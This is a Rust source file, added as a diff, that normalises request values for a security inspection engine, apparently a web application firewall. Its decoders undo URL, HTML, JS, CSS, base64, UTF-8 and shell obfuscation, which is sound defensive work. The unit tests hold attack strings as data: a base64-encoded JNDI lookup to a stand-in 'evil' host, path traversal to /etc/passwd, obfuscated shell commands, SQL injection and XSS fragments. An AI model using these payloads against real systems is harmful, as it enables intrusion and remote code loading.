@@ -1,0 +1,990 @@
+//! Transformations: the forms a value is inspected in.
+//!
+//! Every transformation is a pure function `&[u8] -> Cow<[u8]>` that returns the input
+//! borrowed when it has nothing to change, so a benign value usually costs one scan per
+//! transformation and no allocation. Decoders are single pass and bounded: repeated decoding
+//! is a separate, explicitly bounded transformation ([`Transform::UrlDecodeMulti`]).
+
+use std::borrow::Cow;
+use std::fmt;
+
+use base64::Engine as _;
+
+/// How many times [`Transform::UrlDecodeMulti`] decodes at most (`%252527` needs three).
+pub const MAX_DECODE_PASSES: usize = 4;
+
+/// One transformation step. Names are the snake_case strings used in rule files.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
+pub enum Transform {
+    /// `%XX`, `%uXXXX` and `+` decoded once; malformed escapes kept as they are.
+    UrlDecode,
+    /// [`Transform::UrlDecode`] repeated until nothing changes, at most [`MAX_DECODE_PASSES`].
+    UrlDecodeMulti,
+    /// HTML character references: named (`&lt;`), decimal (`&#60;`), hex (`&#x3c;`), with or
+    /// without the trailing `;`, with any number of leading zeros.
+    HtmlDecode,
+    /// JavaScript escapes: `\xHH`, `\uHHHH`, `\u{H…}`, octal `\NNN`, `\n`…, `\c` → `c`.
+    JsDecode,
+    /// CSS escapes: `\H…` (1–6 hex digits, one trailing space eaten), `\c` → `c`.
+    CssDecode,
+    /// Overlong UTF-8 forms of ASCII decoded, full-width forms (U+FF01–FF5E) and odd spaces
+    /// mapped to ASCII. Other bytes, valid or not, are kept.
+    Utf8Normalize,
+    /// NUL bytes removed.
+    RemoveNulls,
+    /// ASCII lowercase.
+    Lowercase,
+    /// Runs of whitespace (and NUL) become one space.
+    CompressWhitespace,
+    /// All whitespace removed.
+    RemoveWhitespace,
+    /// `/* … */` becomes a space (MySQL `/*! … */` keeps its content); `--` and `#` comments
+    /// to the end of the line become a space.
+    ReplaceComments,
+    /// The comment markers `/*`, `*/`, `--` and `#` removed, content kept.
+    RemoveCommentChars,
+    /// Path normalised: `\` → `/`, `//` → `/`, `./` dropped, `x/../` resolved.
+    NormalizePath,
+    /// Base64 runs (16 or more characters) decoded and joined by spaces; the value itself
+    /// when there are none.
+    Base64Decode,
+    /// Shell command-line normalisation: `\ " ' ^` removed, `,` and `;` become spaces,
+    /// spaces before `/` and `(` removed, whitespace compressed, lowercase.
+    CmdLine,
+    /// Leading and trailing whitespace removed.
+    Trim,
+}
+
+impl Transform {
+    /// Every transformation, for documentation and tests.
+    pub const ALL: [Transform; 16] = [
+        Transform::UrlDecode,
+        Transform::UrlDecodeMulti,
+        Transform::HtmlDecode,
+        Transform::JsDecode,
+        Transform::CssDecode,
+        Transform::Utf8Normalize,
+        Transform::RemoveNulls,
+        Transform::Lowercase,
+        Transform::CompressWhitespace,
+        Transform::RemoveWhitespace,
+        Transform::ReplaceComments,
+        Transform::RemoveCommentChars,
+        Transform::NormalizePath,
+        Transform::Base64Decode,
+        Transform::CmdLine,
+        Transform::Trim,
+    ];
+
+    /// The rule-file name.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Transform::UrlDecode => "url_decode",
+            Transform::UrlDecodeMulti => "url_decode_multi",
+            Transform::HtmlDecode => "html_decode",
+            Transform::JsDecode => "js_decode",
+            Transform::CssDecode => "css_decode",
+            Transform::Utf8Normalize => "utf8_normalize",
+            Transform::RemoveNulls => "remove_nulls",
+            Transform::Lowercase => "lowercase",
+            Transform::CompressWhitespace => "compress_whitespace",
+            Transform::RemoveWhitespace => "remove_whitespace",
+            Transform::ReplaceComments => "replace_comments",
+            Transform::RemoveCommentChars => "remove_comment_chars",
+            Transform::NormalizePath => "normalize_path",
+            Transform::Base64Decode => "base64_decode",
+            Transform::CmdLine => "cmdline",
+            Transform::Trim => "trim",
+        }
+    }
+
+    /// Parses a rule-file name.
+    pub fn parse(s: &str) -> Option<Transform> {
+        Transform::ALL.into_iter().find(|t| t.as_str() == s)
+    }
+
+    /// Applies the transformation.
+    pub fn apply(self, input: &[u8]) -> Cow<'_, [u8]> {
+        match self {
+            Transform::UrlDecode => url_decode(input),
+            Transform::UrlDecodeMulti => url_decode_multi(input),
+            Transform::HtmlDecode => html_decode(input),
+            Transform::JsDecode => js_decode(input),
+            Transform::CssDecode => css_decode(input),
+            Transform::Utf8Normalize => utf8_normalize(input),
+            Transform::RemoveNulls => remove_nulls(input),
+            Transform::Lowercase => lowercase(input),
+            Transform::CompressWhitespace => compress_whitespace(input),
+            Transform::RemoveWhitespace => remove_whitespace(input),
+            Transform::ReplaceComments => replace_comments(input),
+            Transform::RemoveCommentChars => remove_comment_chars(input),
+            Transform::NormalizePath => normalize_path(input),
+            Transform::Base64Decode => base64_decode(input),
+            Transform::CmdLine => cmdline(input),
+            Transform::Trim => trim(input),
+        }
+    }
+}
+
+impl fmt::Display for Transform {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+/// Applies `transforms` in order.
+pub fn apply_all<'a>(transforms: &[Transform], input: &'a [u8]) -> Cow<'a, [u8]> {
+    let mut cur: Cow<'a, [u8]> = Cow::Borrowed(input);
+    for t in transforms {
+        cur = match cur {
+            Cow::Borrowed(b) => t.apply(b),
+            Cow::Owned(o) => Cow::Owned(t.apply(&o).into_owned()),
+        };
+    }
+    cur
+}
+
+// === helpers ===
+
+fn hex_val(b: u8) -> Option<u8> {
+    match b {
+        b'0'..=b'9' => Some(b - b'0'),
+        b'a'..=b'f' => Some(b - b'a' + 10),
+        b'A'..=b'F' => Some(b - b'A' + 10),
+        _ => None,
+    }
+}
+
+fn is_space(b: u8) -> bool {
+    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c)
+}
+
+/// Appends a code point as UTF-8; invalid code points (surrogates, > U+10FFFF) become
+/// U+FFFD so that the output is never more dangerous than the input.
+fn push_char(out: &mut Vec<u8>, cp: u32) {
+    let c = char::from_u32(cp).unwrap_or('\u{fffd}');
+    let mut buf = [0u8; 4];
+    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
+}
+
+/// Parses up to `max` hex digits starting at `s[0]`; returns (value, digits used).
+fn hex_run(s: &[u8], max: usize) -> (u32, usize) {
+    let mut v: u32 = 0;
+    let mut n = 0;
+    for &b in s.iter().take(max) {
+        match hex_val(b) {
+            Some(h) => {
+                v = v.saturating_mul(16).saturating_add(u32::from(h));
+                n += 1;
+            }
+            None => break,
+        }
+    }
+    (v, n)
+}
+
+// === url ===
+
+/// Decodes `%XX`, `%uXXXX` and `+` once.
+pub fn url_decode(input: &[u8]) -> Cow<'_, [u8]> {
+    if !input.iter().any(|&b| b == b'%' || b == b'+') {
+        return Cow::Borrowed(input);
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    while let Some(&b) = input.get(i) {
+        match b {
+            b'+' => {
+                out.push(b' ');
+                i += 1;
+            }
+            b'%' => {
+                let rest = input.get(i + 1..).unwrap_or_default();
+                if let (Some(h), Some(l)) = (
+                    rest.first().copied().and_then(hex_val),
+                    rest.get(1).copied().and_then(hex_val),
+                ) {
+                    out.push(h << 4 | l);
+                    i += 3;
+                } else if matches!(rest.first(), Some(b'u' | b'U')) {
+                    let (v, n) = hex_run(rest.get(1..).unwrap_or_default(), 4);
+                    if n == 4 {
+                        push_char(&mut out, v);
+                        i += 6;
+                    } else {
+                        out.push(b'%');
+                        i += 1;
+                    }
+                } else {
+                    out.push(b'%');
+                    i += 1;
+                }
+            }
+            _ => {
+                out.push(b);
+                i += 1;
+            }
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// [`url_decode`] until stable, at most [`MAX_DECODE_PASSES`] times.
+pub fn url_decode_multi(input: &[u8]) -> Cow<'_, [u8]> {
+    let mut cur = url_decode(input);
+    for _ in 1..MAX_DECODE_PASSES {
+        if !cur.contains(&b'%') {
+            break;
+        }
+        let next = url_decode(&cur).into_owned();
+        if next.as_slice() == cur.as_ref() {
+            break;
+        }
+        cur = Cow::Owned(next);
+    }
+    cur
+}
+
+// === html ===
+
+const HTML_NAMED: &[(&[u8], &str)] = &[
+    (b"lt", "<"),
+    (b"gt", ">"),
+    (b"amp", "&"),
+    (b"quot", "\""),
+    (b"apos", "'"),
+    (b"nbsp", " "),
+    (b"colon", ":"),
+    (b"semi", ";"),
+    (b"sol", "/"),
+    (b"bsol", "\\"),
+    (b"lpar", "("),
+    (b"rpar", ")"),
+    (b"lsqb", "["),
+    (b"rsqb", "]"),
+    (b"lbrack", "["),
+    (b"rbrack", "]"),
+    (b"lcub", "{"),
+    (b"rcub", "}"),
+    (b"lbrace", "{"),
+    (b"rbrace", "}"),
+    (b"tab", "\t"),
+    (b"newline", "\n"),
+    (b"excl", "!"),
+    (b"num", "#"),
+    (b"dollar", "$"),
+    (b"percnt", "%"),
+    (b"plus", "+"),
+    (b"comma", ","),
+    (b"period", "."),
+    (b"equals", "="),
+    (b"quest", "?"),
+    (b"commat", "@"),
+    (b"grave", "`"),
+    (b"verbar", "|"),
+    (b"vert", "|"),
+    (b"ast", "*"),
+    (b"midast", "*"),
+    (b"lowbar", "_"),
+    (b"hat", "^"),
+    (b"tilde", "~"),
+];
+
+/// Decodes HTML character references.
+pub fn html_decode(input: &[u8]) -> Cow<'_, [u8]> {
+    if !input.contains(&b'&') {
+        return Cow::Borrowed(input);
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    while let Some(&b) = input.get(i) {
+        if b != b'&' {
+            out.push(b);
+            i += 1;
+            continue;
+        }
+        let rest = input.get(i + 1..).unwrap_or_default();
+        if rest.first() == Some(&b'#') {
+            let num = rest.get(1..).unwrap_or_default();
+            let (v, n, used) = if matches!(num.first(), Some(b'x' | b'X')) {
+                let (v, n) = hex_run(num.get(1..).unwrap_or_default(), 16);
+                (v, n, n + 1)
+            } else {
+                let mut v: u32 = 0;
+                let mut n = 0;
+                for &d in num.iter().take(16) {
+                    if d.is_ascii_digit() {
+                        v = v.saturating_mul(10).saturating_add(u32::from(d - b'0'));
+                        n += 1;
+                    } else {
+                        break;
+                    }
+                }
+                (v, n, n)
+            };
+            if n > 0 {
+                push_char(&mut out, v);
+                i += 2 + used;
+                if input.get(i) == Some(&b';') {
+                    i += 1;
+                }
+                continue;
+            }
+        } else {
+            let name_len = rest
+                .iter()
+                .take(8)
+                .take_while(|c| c.is_ascii_alphabetic())
+                .count();
+            let name = rest.get(..name_len).unwrap_or_default();
+            // Longest known entity that prefixes the name (`&ltscript` is `<script`).
+            let hit = HTML_NAMED
+                .iter()
+                .filter(|(n, _)| {
+                    name.get(..n.len())
+                        .is_some_and(|p| p.eq_ignore_ascii_case(n))
+                })
+                .max_by_key(|(n, _)| n.len());
+            if let Some((n, s)) = hit {
+                out.extend_from_slice(s.as_bytes());
+                i += 1 + n.len();
+                if input.get(i) == Some(&b';') {
+                    i += 1;
+                }
+                continue;
+            }
+        }
+        out.push(b'&');
+        i += 1;
+    }
+    Cow::Owned(out)
+}
+
+// === js / css ===
+
+/// Decodes JavaScript string escapes.
+pub fn js_decode(input: &[u8]) -> Cow<'_, [u8]> {
+    if !input.contains(&b'\\') {
+        return Cow::Borrowed(input);
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    while let Some(&b) = input.get(i) {
+        if b != b'\\' {
+            out.push(b);
+            i += 1;
+            continue;
+        }
+        let Some(&e) = input.get(i + 1) else {
+            out.push(b);
+            break;
+        };
+        let rest = input.get(i + 2..).unwrap_or_default();
+        match e {
+            b'x' | b'X' => {
+                let (v, n) = hex_run(rest, 2);
+                if n == 2 {
+                    out.push(v as u8);
+                    i += 4;
+                } else {
+                    out.push(e);
+                    i += 2;
+                }
+            }
+            b'u' | b'U' => {
+                if rest.first() == Some(&b'{') {
+                    let (v, n) = hex_run(rest.get(1..).unwrap_or_default(), 6);
+                    if n > 0 && rest.get(1 + n) == Some(&b'}') {
+                        push_char(&mut out, v);
+                        i += 2 + n + 2;
+                        continue;
+                    }
+                }
+                let (v, n) = hex_run(rest, 4);
+                if n == 4 {
+                    push_char(&mut out, v);
+                    i += 6;
+                } else {
+                    out.push(e);
+                    i += 2;
+                }
+            }
+            b'0'..=b'7' => {
+                let mut v: u32 = u32::from(e - b'0');
+                let mut n = 0;
+                for &d in rest.iter().take(2) {
+                    if (b'0'..=b'7').contains(&d) {
+                        v = v * 8 + u32::from(d - b'0');
+                        n += 1;
+                    } else {
+                        break;
+                    }
+                }
+                out.push((v & 0xff) as u8);
+                i += 2 + n;
+            }
+            b'n' => {
+                out.push(b'\n');
+                i += 2;
+            }
+            b'r' => {
+                out.push(b'\r');
+                i += 2;
+            }
+            b't' => {
+                out.push(b'\t');
+                i += 2;
+            }
+            b'b' => {
+                out.push(0x08);
+                i += 2;
+            }
+            b'f' => {
+                out.push(0x0c);
+                i += 2;
+            }
+            b'v' => {
+                out.push(0x0b);
+                i += 2;
+            }
+            _ => {
+                out.push(e);
+                i += 2;
+            }
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Decodes CSS escapes.
+pub fn css_decode(input: &[u8]) -> Cow<'_, [u8]> {
+    if !input.contains(&b'\\') {
+        return Cow::Borrowed(input);
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    while let Some(&b) = input.get(i) {
+        if b != b'\\' {
+            out.push(b);
+            i += 1;
+            continue;
+        }
+        let rest = input.get(i + 1..).unwrap_or_default();
+        let (v, n) = hex_run(rest, 6);
+        if n > 0 {
+            push_char(&mut out, v);
+            i += 1 + n;
+            if input.get(i).is_some_and(|&c| is_space(c)) {
+                i += 1;
+            }
+        } else if let Some(&c) = rest.first() {
+            if c != b'\n' {
+                out.push(c);
+            }
+            i += 2;
+        } else {
+            i += 1;
+        }
+    }
+    Cow::Owned(out)
+}
+
+// === utf-8 ===
+
+/// Decodes overlong UTF-8 encodings of ASCII and maps full-width forms to ASCII.
+pub fn utf8_normalize(input: &[u8]) -> Cow<'_, [u8]> {
+    if input.is_ascii() {
+        return Cow::Borrowed(input);
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    let mut changed = false;
+    while let Some(&b) = input.get(i) {
+        let b1 = input.get(i + 1).copied().unwrap_or(0);
+        let b2 = input.get(i + 2).copied().unwrap_or(0);
+        let b3 = input.get(i + 3).copied().unwrap_or(0);
+        let cont = |x: u8| x & 0xc0 == 0x80;
+        // Overlong 2-byte form of ASCII: C0 80 – C1 BF.
+        if (b == 0xc0 || b == 0xc1) && cont(b1) {
+            out.push(((b & 0x01) << 6) | (b1 & 0x3f));
+            i += 2;
+            changed = true;
+            continue;
+        }
+        // Overlong 3-byte form of ASCII: E0 80 80 – E0 81 BF.
+        if b == 0xe0 && (b1 == 0x80 || b1 == 0x81) && cont(b2) {
+            out.push(((b1 & 0x01) << 6) | (b2 & 0x3f));
+            i += 3;
+            changed = true;
+            continue;
+        }
+        // Overlong 4-byte form of ASCII: F0 80 80 80 – F0 80 81 BF.
+        if b == 0xf0 && b1 == 0x80 && (b2 == 0x80 || b2 == 0x81) && cont(b3) {
+            out.push(((b2 & 0x01) << 6) | (b3 & 0x3f));
+            i += 4;
+            changed = true;
+            continue;
+        }
+        // Full-width ASCII U+FF01–FF5E: EF BC 81 – EF BD 9E.
+        if b == 0xef && (b1 == 0xbc || b1 == 0xbd) && cont(b2) {
+            let cp = 0xf000 | (u32::from(b1 & 0x3f) << 6) | u32::from(b2 & 0x3f);
+            if (0xff01..=0xff5e).contains(&cp) {
+                out.push((cp - 0xff01 + 0x21) as u8);
+                i += 3;
+                changed = true;
+                continue;
+            }
+        }
+        // Ideographic space U+3000 (E3 80 80) and no-break space U+00A0 (C2 A0).
+        if b == 0xe3 && b1 == 0x80 && b2 == 0x80 {
+            out.push(b' ');
+            i += 3;
+            changed = true;
+            continue;
+        }
+        if b == 0xc2 && b1 == 0xa0 {
+            out.push(b' ');
+            i += 2;
+            changed = true;
+            continue;
+        }
+        out.push(b);
+        i += 1;
+    }
+    if changed {
+        Cow::Owned(out)
+    } else {
+        Cow::Borrowed(input)
+    }
+}
+
+// === simple byte maps ===
+
+/// Removes NUL bytes.
+pub fn remove_nulls(input: &[u8]) -> Cow<'_, [u8]> {
+    if !input.contains(&0) {
+        return Cow::Borrowed(input);
+    }
+    Cow::Owned(input.iter().copied().filter(|&b| b != 0).collect())
+}
+
+/// ASCII lowercase.
+pub fn lowercase(input: &[u8]) -> Cow<'_, [u8]> {
+    if !input.iter().any(u8::is_ascii_uppercase) {
+        return Cow::Borrowed(input);
+    }
+    Cow::Owned(input.to_ascii_lowercase())
+}
+
+/// Runs of whitespace and NUL become one space.
+pub fn compress_whitespace(input: &[u8]) -> Cow<'_, [u8]> {
+    let ws = |b: u8| is_space(b) || b == 0;
+    let needs = input
+        .windows(2)
+        .any(|w| matches!(w, [a, b] if ws(*a) && ws(*b)))
+        || input.iter().any(|&b| ws(b) && b != b' ');
+    if !needs {
+        return Cow::Borrowed(input);
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut in_ws = false;
+    for &b in input {
+        if ws(b) {
+            if !in_ws {
+                out.push(b' ');
+            }
+            in_ws = true;
+        } else {
+            out.push(b);
+            in_ws = false;
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Removes all whitespace.
+pub fn remove_whitespace(input: &[u8]) -> Cow<'_, [u8]> {
+    if !input.iter().any(|&b| is_space(b) || b == 0) {
+        return Cow::Borrowed(input);
+    }
+    Cow::Owned(
+        input
+            .iter()
+            .copied()
+            .filter(|&b| !is_space(b) && b != 0)
+            .collect(),
+    )
+}
+
+/// Leading and trailing whitespace removed.
+pub fn trim(input: &[u8]) -> Cow<'_, [u8]> {
+    let start = input
+        .iter()
+        .position(|&b| !is_space(b))
+        .unwrap_or(input.len());
+    let end = input
+        .iter()
+        .rposition(|&b| !is_space(b))
+        .map_or(start, |p| p + 1);
+    Cow::Borrowed(input.get(start..end).unwrap_or_default())
+}
+
+// === comments ===
+
+/// Replaces SQL / C comments with a space.
+pub fn replace_comments(input: &[u8]) -> Cow<'_, [u8]> {
+    if memchr::memmem::find(input, b"/*").is_none()
+        && memchr::memmem::find(input, b"--").is_none()
+        && !input.contains(&b'#')
+    {
+        return Cow::Borrowed(input);
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    while let Some(&b) = input.get(i) {
+        let next = input.get(i + 1).copied();
+        if b == b'/' && next == Some(b'*') {
+            // MySQL executes the body of `/*! … */` and `/*!50000 … */`: keep it.
+            if input.get(i + 2) == Some(&b'!') {
+                let mut j = i + 3;
+                while input.get(j).is_some_and(u8::is_ascii_digit) {
+                    j += 1;
+                }
+                out.push(b' ');
+                i = j;
+                continue;
+            }
+            let body = input.get(i + 2..).unwrap_or_default();
+            match memchr::memmem::find(body, b"*/") {
+                Some(end) => i += 2 + end + 2,
+                None => i = input.len(),
+            }
+            out.push(b' ');
+        } else if b == b'*' && next == Some(b'/') {
+            out.push(b' ');
+            i += 2;
+        } else if (b == b'-' && next == Some(b'-')) || b == b'#' {
+            let body = input.get(i..).unwrap_or_default();
+            match memchr::memchr(b'\n', body) {
+                Some(end) => i += end,
+                None => i = input.len(),
+            }
+            out.push(b' ');
+        } else {
+            out.push(b);
+            i += 1;
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Removes the comment markers `/*`, `*/`, `--`, `#`, keeping what they enclose.
+pub fn remove_comment_chars(input: &[u8]) -> Cow<'_, [u8]> {
+    if memchr::memmem::find(input, b"/*").is_none()
+        && memchr::memmem::find(input, b"*/").is_none()
+        && memchr::memmem::find(input, b"--").is_none()
+        && !input.contains(&b'#')
+    {
+        return Cow::Borrowed(input);
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    while let Some(&b) = input.get(i) {
+        let next = input.get(i + 1).copied();
+        if (b == b'/' && next == Some(b'*'))
+            || (b == b'*' && next == Some(b'/'))
+            || (b == b'-' && next == Some(b'-'))
+        {
+            i += 2;
+        } else if b == b'#' {
+            i += 1;
+        } else {
+            out.push(b);
+            i += 1;
+        }
+    }
+    Cow::Owned(out)
+}
+
+// === path ===
+
+/// Normalises a path: `\` → `/`, repeated `/` collapsed, `.` segments dropped, `..`
+/// resolved against the previous segment (never above the start).
+pub fn normalize_path(input: &[u8]) -> Cow<'_, [u8]> {
+    let suspicious = input.contains(&b'\\')
+        || memchr::memmem::find(input, b"//").is_some()
+        || memchr::memmem::find(input, b"/.").is_some()
+        || input.starts_with(b".");
+    if !suspicious {
+        return Cow::Borrowed(input);
+    }
+    let unified: Vec<u8> = input
+        .iter()
+        .map(|&b| if b == b'\\' { b'/' } else { b })
+        .collect();
+    let absolute = unified.first() == Some(&b'/');
+    let trailing = unified.last() == Some(&b'/');
+    let mut segs: Vec<&[u8]> = Vec::new();
+    for seg in unified.split(|&b| b == b'/') {
+        match seg {
+            b"" | b"." => {}
+            b".." => {
+                if segs.last().is_some_and(|s| *s != b"..") {
+                    segs.pop();
+                } else if !absolute {
+                    segs.push(seg);
+                }
+            }
+            _ => segs.push(seg),
+        }
+    }
+    let mut out = Vec::with_capacity(unified.len());
+    if absolute {
+        out.push(b'/');
+    }
+    for (n, s) in segs.iter().enumerate() {
+        if n > 0 {
+            out.push(b'/');
+        }
+        out.extend_from_slice(s);
+    }
+    if trailing && !segs.is_empty() {
+        out.push(b'/');
+    }
+    Cow::Owned(out)
+}
+
+// === base64 ===
+
+const B64_CONFIG: base64::engine::GeneralPurposeConfig =
+    base64::engine::GeneralPurposeConfig::new()
+        .with_decode_allow_trailing_bits(true)
+        .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent);
+static B64_STD: base64::engine::GeneralPurpose =
+    base64::engine::GeneralPurpose::new(&base64::alphabet::STANDARD, B64_CONFIG);
+static B64_URL: base64::engine::GeneralPurpose =
+    base64::engine::GeneralPurpose::new(&base64::alphabet::URL_SAFE, B64_CONFIG);
+
+/// Decodes base64 runs of 16 or more characters; returns the value itself when there are
+/// none (so that a rule asking for this form still sees plain text).
+pub fn base64_decode(input: &[u8]) -> Cow<'_, [u8]> {
+    const MIN_RUN: usize = 16;
+    let is_b64 = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_');
+    let mut out: Vec<u8> = Vec::new();
+    let mut i = 0;
+    while i < input.len() {
+        let rest = input.get(i..).unwrap_or_default();
+        let run = rest.iter().take_while(|&&b| is_b64(b)).count();
+        if run >= MIN_RUN {
+            let pad = rest
+                .get(run..)
+                .unwrap_or_default()
+                .iter()
+                .take(2)
+                .take_while(|&&b| b == b'=')
+                .count();
+            let chunk = rest.get(..run).unwrap_or_default();
+            // A remainder of one character can never be base64; drop it.
+            let usable = if chunk.len() % 4 == 1 {
+                chunk.len() - 1
+            } else {
+                chunk.len()
+            };
+            let body = chunk.get(..usable).unwrap_or_default();
+            let engine = if body.iter().any(|&b| b == b'-' || b == b'_') {
+                &B64_URL
+            } else {
+                &B64_STD
+            };
+            if let Ok(decoded) = engine.decode(body) {
+                if !out.is_empty() {
+                    out.push(b' ');
+                }
+                out.extend_from_slice(&decoded);
+            }
+            i += run + pad;
+        } else {
+            i += run.max(1);
+        }
+    }
+    if out.is_empty() {
+        Cow::Borrowed(input)
+    } else {
+        Cow::Owned(out)
+    }
+}
+
+// === shell ===
+
+/// Shell command-line normalisation (evasions like `c\at`, `"c"at`, `c^at`, `cat${IFS}`).
+pub fn cmdline(input: &[u8]) -> Cow<'_, [u8]> {
+    let mut out = Vec::with_capacity(input.len());
+    let mut in_ws = false;
+    for &b in input {
+        match b {
+            b'\\' | b'"' | b'\'' | b'^' => {}
+            b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c | b',' | b';' => {
+                if !in_ws {
+                    out.push(b' ');
+                }
+                in_ws = true;
+            }
+            b'/' | b'(' => {
+                if in_ws {
+                    out.pop();
+                }
+                out.push(b);
+                in_ws = false;
+            }
+            _ => {
+                out.push(b.to_ascii_lowercase());
+                in_ws = false;
+            }
+        }
+    }
+    if out.as_slice() == input {
+        Cow::Borrowed(input)
+    } else {
+        Cow::Owned(out)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn t(tr: Transform, input: &str) -> String {
+        String::from_utf8_lossy(&tr.apply(input.as_bytes())).into_owned()
+    }
+
+    #[test]
+    fn url_decoding() {
+        assert_eq!(t(Transform::UrlDecode, "a%20b+c"), "a b c");
+        assert_eq!(t(Transform::UrlDecode, "%27%3cscript%3E"), "'<script>");
+        assert_eq!(t(Transform::UrlDecode, "%u003cx%u0027"), "<x'");
+        assert_eq!(t(Transform::UrlDecode, "100%"), "100%");
+        assert_eq!(t(Transform::UrlDecode, "%zz%4"), "%zz%4");
+        assert_eq!(t(Transform::UrlDecode, "%252e%252e"), "%2e%2e");
+        assert_eq!(t(Transform::UrlDecodeMulti, "%252e%252e%252f"), "../");
+        assert_eq!(t(Transform::UrlDecodeMulti, "%25252527"), "'");
+        assert!(matches!(url_decode(b"plain"), Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn url_decode_multi_is_bounded() {
+        // Five levels of encoding: only MAX_DECODE_PASSES are undone.
+        let s = "%2525252527";
+        assert_eq!(t(Transform::UrlDecodeMulti, s), "%27");
+    }
+
+    #[test]
+    fn html_decoding() {
+        assert_eq!(t(Transform::HtmlDecode, "&lt;script&gt;"), "<script>");
+        assert_eq!(
+            t(Transform::HtmlDecode, "&#60;&#x3C;&#X3c&#0000060"),
+            "<<<<"
+        );
+        assert_eq!(
+            t(Transform::HtmlDecode, "java&Tab;script&colon;"),
+            "java\tscript:"
+        );
+        assert_eq!(t(Transform::HtmlDecode, "&ltimg"), "<img");
+        assert_eq!(t(Transform::HtmlDecode, "AT&T &x"), "AT&T &x");
+        assert_eq!(t(Transform::HtmlDecode, "&#99999999999;"), "\u{fffd}");
+    }
+
+    #[test]
+    fn js_and_css_decoding() {
+        assert_eq!(t(Transform::JsDecode, r"\x3cscript\u003e"), "<script>");
+        assert_eq!(t(Transform::JsDecode, r"\u{61}\141\n\q"), "aa\nq");
+        assert_eq!(t(Transform::JsDecode, "end\\"), "end\\");
+        assert_eq!(t(Transform::CssDecode, r"\6a avascript\3a"), "javascript:");
+        assert_eq!(t(Transform::CssDecode, r"ex\pression"), "expression");
+    }
+
+    #[test]
+    fn utf8_normalisation() {
+        // Overlong '.' '/' and full-width '<'.
+        assert_eq!(utf8_normalize(b"\xc0\xae\xc0\xaf").as_ref(), b"./");
+        assert_eq!(utf8_normalize(b"\xe0\x80\xae").as_ref(), b".");
+        assert_eq!(
+            utf8_normalize("\u{ff1c}script\u{ff1e}".as_bytes()).as_ref(),
+            b"<script>"
+        );
+        assert_eq!(
+            utf8_normalize("caf\u{e9}".as_bytes()).as_ref(),
+            "caf\u{e9}".as_bytes()
+        );
+        assert_eq!(utf8_normalize(b"\xff\xfe").as_ref(), b"\xff\xfe");
+    }
+
+    #[test]
+    fn whitespace_and_case() {
+        assert_eq!(t(Transform::CompressWhitespace, "a \t\n b"), "a b");
+        assert_eq!(t(Transform::RemoveWhitespace, "a \t\n b"), "ab");
+        assert_eq!(t(Transform::Lowercase, "SeLeCt"), "select");
+        assert_eq!(t(Transform::Trim, "  x y \n"), "x y");
+        assert_eq!(t(Transform::Trim, "   "), "");
+        assert_eq!(t(Transform::RemoveNulls, "a\0b"), "ab");
+    }
+
+    #[test]
+    fn comments() {
+        assert_eq!(
+            t(Transform::ReplaceComments, "UNION/**/SELECT"),
+            "UNION SELECT"
+        );
+        assert_eq!(
+            t(Transform::ReplaceComments, "1/*!50000UNION*/SELECT"),
+            "1 UNION SELECT"
+        );
+        assert_eq!(t(Transform::ReplaceComments, "a-- x\nb"), "a \nb");
+        assert_eq!(t(Transform::ReplaceComments, "a /* open"), "a  ");
+        assert_eq!(t(Transform::RemoveCommentChars, "SEL/**/ECT"), "SELECT");
+    }
+
+    #[test]
+    fn paths() {
+        assert_eq!(
+            t(Transform::NormalizePath, "/a/b/../../../etc/passwd"),
+            "/etc/passwd"
+        );
+        assert_eq!(
+            t(Transform::NormalizePath, "..\\..\\win.ini"),
+            "../../win.ini"
+        );
+        assert_eq!(t(Transform::NormalizePath, "/a//./b/"), "/a/b/");
+        assert_eq!(t(Transform::NormalizePath, "/plain/path"), "/plain/path");
+    }
+
+    #[test]
+    fn base64_runs() {
+        assert_eq!(
+            t(Transform::Base64Decode, "x=JHtqbmRpOmxkYXA6Ly9ldmlsfQ=="),
+            "${jndi:ldap://evil}"
+        );
+        assert_eq!(t(Transform::Base64Decode, "short"), "short");
+    }
+
+    #[test]
+    fn shell_command_lines() {
+        assert_eq!(
+            t(Transform::CmdLine, r#"c\a"t" /etc/pa's'swd"#),
+            "cat/etc/passwd"
+        );
+        assert_eq!(t(Transform::CmdLine, "W^HOAMI;  ID"), "whoami id");
+    }
+
+    #[test]
+    fn transforms_never_panic_on_truncated_escapes() {
+        for tr in Transform::ALL {
+            for s in [
+                "%", "%u", "%u12", "&#", "&#x", "\\", "\\u{", "\\x4", "/*", "\u{ff01}",
+            ] {
+                let _ = tr.apply(s.as_bytes());
+            }
+            let _ = tr.apply(b"\xef\xbc");
+            let _ = tr.apply(b"\xc0");
+        }
+    }
+}
